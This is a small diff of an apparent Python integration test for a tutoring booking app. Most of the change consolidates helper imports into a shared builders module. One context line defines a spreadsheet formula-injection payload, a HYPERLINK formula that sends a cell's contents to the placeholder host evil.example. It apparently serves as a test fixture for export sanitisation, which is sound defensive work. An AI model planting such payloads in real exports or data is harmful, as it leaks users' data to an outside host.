@@ -21,10 +21,9 @@ from booking_app.models import AvailabilityOverride, BusyBlock, Lesson, SignInAt
 from booking_app.services import accounts, notifications
 from booking_app.services import booking as booking_svc
 from booking_app.services.sessions import open_session
-from tests.integration.booking_helpers import NOW, add_service, add_subject, add_tutor, form
-from tests.integration.classroom_helpers import add_lesson
 from tests.support import clock
 from tests.support.admin_forms import form_fields
+from tests.support.builders import NOW, add_lesson, add_service, add_subject, add_tutor, form
 
 T = TypeVar("T")
 EVIL_NAME = '=HYPERLINK("http://evil.example/?g="&B2,"guest")'
